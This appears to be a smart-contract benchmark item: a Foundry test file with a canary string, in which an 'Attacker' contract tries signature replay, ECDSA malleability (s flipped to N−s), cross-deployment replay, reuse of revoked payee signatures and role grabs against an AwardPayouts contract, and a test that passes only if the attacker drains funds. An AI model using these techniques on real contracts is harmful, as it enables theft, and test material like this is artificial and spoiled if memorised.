// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import {Strings} from "@openzeppelin/contracts@4.9.6/utils/Strings.sol";
import "./AwardPayouts.sol";

// assay-canary-1f18d2c1-0710-41fa-becc-32166f668ba0

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000 ether);
    }
}

/// A recipient of one award, with every signature that was ever public, also those of another program.
contract Attacker {
    uint256 internal constant N = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;

    AwardPayouts internal payouts;
    IAwardPayouts.Award internal award;
    IAwardPayouts.Award internal elsewhere;
    bytes[] internal signatures;
    bytes[] internal signaturesElsewhere;
    bytes internal oldSignature;
    address internal other;
    IAwardPayouts.Award internal others;
    bytes[] internal othersSignatures;

    constructor(AwardPayouts payouts_) {
        payouts = payouts_;
    }

    function give(IAwardPayouts.Award memory p, bytes[] memory s, IAwardPayouts.Award memory q, bytes[] memory t) external {
        award = p;
        elsewhere = q;
        for (uint256 i = 0; i < 2; ++i) {
            signatures.push(s[i]);
            signaturesElsewhere.push(t[i]);
        }
    }

    function giveOthers(address recipient, bytes memory signature, IAwardPayouts.Award memory p, bytes[] memory s) external {
        other = recipient;
        oldSignature = signature;
        others = p;
        for (uint256 i = 0; i < 2; ++i) othersSignatures.push(s[i]);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(payouts).call(data);
    }

    /// The other signature that is as good: s from the other side of the order.
    function _mirror(bytes memory signature) internal pure returns (bytes memory) {
        bytes32 r;
        bytes32 s;
        uint8 v;
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
            v := byte(0, mload(add(signature, 96)))
        }
        return abi.encodePacked(r, bytes32(N - uint256(s)), v == 27 ? uint8(28) : uint8(27));
    }

    function run() external {
        IAwardPayouts.Award memory p = award;
        bytes[] memory s = signatures;
        // the same signatures, several times and in their other form
        for (uint256 i = 0; i < 4; ++i) _try(abi.encodeCall(payouts.payAward, (p, s)));
        s[0] = _mirror(s[0]);
        s[1] = _mirror(s[1]);
        _try(abi.encodeCall(payouts.payAward, (p, s)));
        // another amount, round and deadline under the same signatures
        p.amount *= 10;
        _try(abi.encodeCall(payouts.payAward, (p, signatures)));
        p = award;
        p.roundId += 1;
        _try(abi.encodeCall(payouts.payAward, (p, signatures)));
        p = award;
        p.deadline += 365 days;
        _try(abi.encodeCall(payouts.payAward, (p, signatures)));
        // of another program with the same approvers
        _try(abi.encodeCall(payouts.payAward, (elsewhere, signaturesElsewhere)));
        // one approver twice, none at all, nonsense
        p = award;
        p.roundId += 2;
        s[0] = signatures[0];
        s[1] = _mirror(signatures[0]);
        _try(abi.encodeCall(payouts.payAward, (p, s)));
        s[0] = new bytes(65);
        s[1] = new bytes(65);
        _try(abi.encodeCall(payouts.payAward, (p, s)));
        _try(abi.encodeCall(payouts.payAward, (p, new bytes[](0))));
        // a payee of somebody who has changed their mind, and of nobody
        _try(abi.encodeCall(payouts.setPayeeBySig, (other, address(this), type(uint256).max, oldSignature)));
        _try(abi.encodeCall(payouts.setPayeeBySig, (other, address(this), type(uint256).max, new bytes(65))));
        _try(abi.encodeCall(payouts.setPayeeBySig, (address(0), address(this), type(uint256).max, new bytes(65))));
        _try(abi.encodeCall(payouts.payAward, (others, othersSignatures)));
        _try(abi.encodeCall(payouts.recoverFunds, (address(this), 1 ether)));
        _try(abi.encodeCall(payouts.grantRole, (payouts.APPROVER_ROLE(), address(this))));
    }

    function later() external {
        _try(abi.encodeCall(payouts.payAward, (award, signatures)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant KEY_A = 0xA57A;
    uint256 private constant KEY_B = 0xB1CC;
    uint256 private constant KEY_C = 0x11F;
    address private constant TREASURY = address(0x7EA);

    Coin private coin;
    AwardPayouts private payouts;
    AwardPayouts private other;
    Attacker private mallory;
    address private anna;
    address private bert;
    address private carl;

    function setUp() public {
        vm.warp(1_762_000_000);
        (anna, bert, carl) = (vm.addr(KEY_A), vm.addr(KEY_B), vm.addr(KEY_C));
        coin = new Coin();
        address[] memory approvers = new address[](2);
        (approvers[0], approvers[1]) = (anna, bert);
        payouts = new AwardPayouts(coin, approvers);
        other = new AwardPayouts(coin, approvers);
        coin.transfer(address(payouts), 5000 ether);
        coin.transfer(address(other), 100 ether);
        mallory = new Attacker(payouts);

        IAwardPayouts.Award memory p = _award(31, address(mallory), 100 ether);
        IAwardPayouts.Award memory q = _award(7, address(mallory), 900 ether);
        mallory.give(p, _signed(payouts, p), q, _signed(other, q));

        // Carl once had his awards sent to the attacker, and then to himself again
        bytes memory signature = _by(KEY_C, payouts.hashPayee(carl, address(mallory), 0, type(uint256).max));
        payouts.setPayeeBySig(carl, address(mallory), type(uint256).max, signature);
        vm.prank(carl);
        payouts.setPayee(address(0));
        p = _award(32, carl, 700 ether);
        mallory.giveOthers(carl, signature, p, _signed(payouts, p));
    }

    function _award(uint256 roundId, address to, uint256 amount) private view returns (IAwardPayouts.Award memory) {
        return IAwardPayouts.Award(roundId, to, amount, block.timestamp + 30 days);
    }

    function _by(uint256 key, bytes32 digest) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, digest);
        return abi.encodePacked(r, s, v);
    }

    function _signed(AwardPayouts at, IAwardPayouts.Award memory p) private returns (bytes[] memory s) {
        bytes32 digest = at.hashAward(p);
        (uint256 a, uint256 b) = anna < bert ? (KEY_A, KEY_B) : (KEY_B, KEY_A);
        s = new bytes[](2);
        s[0] = _by(a, digest);
        s[1] = _by(b, digest);
    }

    function test_Regular() public {
        IAwardPayouts.Award memory p = _award(40, carl, 50 ether);
        payouts.payAward(p, _signed(payouts, p));
        require(coin.balanceOf(carl) == 50 ether, "paid");

        p = _award(41, carl, 60 ether);
        uint256 until = block.timestamp + 1 days;
        bytes memory signature = _by(KEY_C, payouts.hashPayee(carl, address(0x11), payouts.payeeNonce(carl), until));
        payouts.setPayeeBySig(carl, address(0x11), until, signature);
        payouts.payAward(p, _signed(payouts, p));
        require(coin.balanceOf(address(0x11)) == 60 ether, "payee");
        vm.prank(carl);
        payouts.setPayee(address(0));
        require(payouts.payeeOf(carl) == address(0), "no payee");

        vm.prank(anna);
        payouts.cancelAward(42, carl);
        require(payouts.settled(42, carl), "cancelled");
        payouts.recoverFunds(TREASURY, coin.balanceOf(address(payouts)));
        require(coin.balanceOf(address(payouts)) == 0 && coin.balanceOf(TREASURY) == 4890 ether, "recovered");
        payouts.grantRole(payouts.APPROVER_ROLE(), carl);
        payouts.revokeRole(payouts.APPROVER_ROLE(), bert);
        payouts.renounceRole(payouts.DEFAULT_ADMIN_ROLE(), address(this));
        other.recoverFunds(TREASURY, 100 ether);
    }

    function token() public view returns (address) {
        return address(coin);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        address[] memory none = new address[](0);
        vm.expectRevert("AwardPayouts: no token");
        new AwardPayouts(IERC20(address(0)), none);
        bytes32 role = payouts.APPROVER_ROLE();
        vm.expectRevert(_missing(address(this), role));
        payouts.cancelAward(50, carl);
        bytes memory missing = _missing(carl, payouts.DEFAULT_ADMIN_ROLE());
        vm.prank(carl);
        vm.expectRevert(missing);
        payouts.grantRole(role, carl);
        missing = _missing(carl, payouts.TREASURER_ROLE());
        vm.prank(carl);
        vm.expectRevert(missing);
        payouts.recoverFunds(carl, 1);
    }

    function _missing(address who, bytes32 role) private pure returns (bytes memory) {
        return
            abi.encodePacked(
                "AccessControl: account ",
                Strings.toHexString(who),
                " is missing role ",
                Strings.toHexString(uint256(role), 32)
            );
    }

    /// An award is settled once, in time, for two signatures of approvers.
    function test_RefusesAwards() public {
        vm.prank(anna);
        payouts.cancelAward(50, carl);
        vm.prank(anna);
        vm.expectRevert("AwardPayouts: settled");
        payouts.cancelAward(50, carl);
        IAwardPayouts.Award memory p = _award(50, carl, 1 ether);
        bytes[] memory two = _signed(payouts, p);
        vm.expectRevert("AwardPayouts: settled");
        payouts.payAward(p, two);

        p = _award(51, carl, 1 ether);
        two = _signed(payouts, p);
        bytes[] memory three = new bytes[](3);
        (three[0], three[1], three[2]) = (two[0], two[1], two[1]);
        vm.expectRevert("AwardPayouts: wrong number of signatures");
        payouts.payAward(p, three);
        (three[0], two[0]) = (two[0], two[1]);
        vm.expectRevert("AwardPayouts: signers out of order");
        payouts.payAward(p, two);
        two[0] = three[0];
        payouts.revokeRole(payouts.APPROVER_ROLE(), bert);
        vm.expectRevert("AwardPayouts: not an approver");
        payouts.payAward(p, two);
        vm.warp(block.timestamp + 30 days + 1);
        vm.expectRevert("AwardPayouts: expired");
        payouts.payAward(p, two);
    }

    /// A payee is named by the recipient, in time.
    function test_RefusesPayees() public {
        uint256 until = block.timestamp;
        bytes memory signature = _by(KEY_C, payouts.hashPayee(carl, address(0x11), payouts.payeeNonce(carl), until));
        vm.expectRevert("AwardPayouts: not signed by recipient");
        payouts.setPayeeBySig(carl, address(0x12), until, signature);
        vm.warp(until + 1);
        vm.expectRevert("AwardPayouts: expired");
        payouts.setPayeeBySig(carl, address(0x11), until, signature);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 31 days);
        mallory.later();
    }

    // Of the round that was really won there are one hundred.
    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(mallory));
        exploit();
        require(coin.balanceOf(address(mallory)) >= before + 250 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(payouts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
